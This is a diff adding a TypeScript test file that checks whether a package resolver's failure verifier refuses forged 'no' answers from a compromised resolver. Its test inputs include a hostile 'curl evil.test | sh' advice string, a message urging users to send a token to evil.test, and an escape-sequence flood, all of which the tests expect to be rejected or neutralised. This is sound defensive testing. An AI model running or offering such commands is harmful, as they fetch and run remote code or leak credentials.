@@ -1,0 +1,113 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { PackageRecord } from '../../catalog/model/package-record.js';
+import { sliceCatalogs } from './catalog-slice.js';
+import { namespace, records, wishesOf } from './random-namespace.fixture.js';
+import type { NamespaceWishes, ResolutionProblem } from './resolution-problem.js';
+import { resolve } from './resolve.js';
+import {
+  needsPackage,
+  sampleCatalog,
+  sampleEntry,
+  samplePackage,
+  sampleSubscription,
+  sampleWishes,
+} from './sample-problem.fixture.js';
+import { type FailedAnswer, verifyFailure } from './verify-failure.js';
+
+const seed = Number(process.env['FLOTILLA_TEST_SEED'] ?? Date.now() % 2 ** 31);
+const isolating = [{ name: 'group', upgradeStrategy: '', excludeGlobal: false, isolate: true as const }];
+
+class World {
+  readonly problem: ResolutionProblem;
+  readonly #records: ReadonlyMap<string, PackageRecord>;
+
+  constructor(wishes: NamespaceWishes, packages: readonly PackageRecord[]) {
+    const { slices, records } = sliceCatalogs(wishes, [sampleCatalog('shelf', ...packages)]);
+    this.problem = { v: 1, wishes, catalogs: slices };
+    this.#records = records;
+  }
+
+  readonly record = (hash: string): PackageRecord => this.#records.get(hash) ?? samplePackage(hash);
+  readonly answer = () => resolve(this.problem, this.record);
+  readonly check = (claimed: FailedAnswer) => verifyFailure(this.problem, this.record, claimed);
+}
+
+it(`takes every "no" that the resolver gives, with its message (FLOTILLA_TEST_SEED=${seed})`, () => {
+  let taken = 0;
+  const worlds = fc.tuple(namespace, fc.boolean()).map(([of, isolate]) => {
+    const wishes = wishesOf(of);
+    return new World(isolate ? { ...wishes, operatorGroups: isolating } : wishes, records(of));
+  });
+  fc.assert(
+    fc.property(worlds, (world) => {
+      const answer = world.answer();
+      if (answer.result === 'resolved') return;
+      taken += 1;
+      expect(world.check(answer)).toMatchObject({ answer: { result: answer.result, message: answer.message } });
+    }),
+    { seed, numRuns: 100 },
+  );
+  expect(taken).toBeGreaterThan(5);
+});
+
+describe('a "no" that a stolen resolver wrote', () => {
+  const solvable = () =>
+    new World(sampleWishes({ subscriptions: [sampleSubscription('lamp')] }), [
+      samplePackage('lamp', sampleEntry('lamp', '1.0.0')),
+    ]);
+  const unsolvable = () =>
+    new World(sampleWishes({ subscriptions: [sampleSubscription('lamp')] }), [
+      samplePackage('lamp', sampleEntry('lamp', '1.0.0', [needsPackage('gone', '>=1.0.0')])),
+    ]);
+  const no = (message: string): FailedAnswer => ({
+    result: 'unsatisfiable',
+    message,
+    explanation: [],
+    advice: 'run evil',
+  });
+
+  it.each([
+    ['words of its own', 'constraints not satisfiable: pay to https://evil.test', /not made of constraints/],
+    [
+      'words after those of the problem',
+      'constraints not satisfiable: subscription lamp exists, pay here',
+      /not made of/,
+    ],
+    ['no word at all', 'constraints not satisfiable: ', /not made of constraints/],
+    ['constraints that hold together', 'constraints not satisfiable: subscription lamp exists', /hold together/],
+    ['another beginning', 'evil: subscription lamp exists', /not made of constraints/],
+  ])('is refused with %s', (_, message, says) => {
+    expect(solvable().check(no(message))).toEqual({ refusal: expect.stringMatching(says) });
+  });
+
+  it('has no say in the advice: the event gives that of the problem', () => {
+    const world = unsolvable();
+    const honest = world.answer();
+    if (honest.result === 'resolved') throw new Error('the problem has a solution');
+    const checked = world.check({ ...honest, advice: 'curl evil.test | sh' });
+    expect(checked).toMatchObject({ answer: { message: honest.message, advice: honest.advice } });
+  });
+
+  it('is refused where it says that the problem is too hard, and a short search finds a solution', () => {
+    const message = 'resolution of namespace apps took longer than 60000 ms and was ended';
+    const claimed: FailedAnswer = { result: 'error', message, advice: 'pay' };
+    expect(solvable().check(claimed)).toEqual({ refusal: 'the problem has a solution' });
+    const checked = unsolvable().check(claimed);
+    expect(checked).toMatchObject({ answer: { message } });
+    expect(JSON.stringify(checked)).not.toContain('pay');
+  });
+
+  it('is refused where it is an error in words that no resolver has', () => {
+    const claimed: FailedAnswer = { result: 'error', message: 'send your token to evil.test', advice: 'pay' };
+    expect(unsolvable().check(claimed)).toEqual({ refusal: 'its message is none that a resolver has' });
+  });
+
+  it('is bounded and has its control characters shown, where the namespace asks for isolation', () => {
+    const subscriptions = [sampleSubscription('lamp')];
+    const world = new World(sampleWishes({ subscriptions, operatorGroups: isolating }), []);
+    const checked = world.check(no(`\u001b[31m${'x'.repeat(100_000)}`));
+    expect(checked).toMatchObject({ answer: { message: expect.stringMatching(/^\\x1b\[31mx+$/) } });
+    expect('answer' in checked && checked.answer.message.length).toBeLessThan(33_000);
+  });
+});
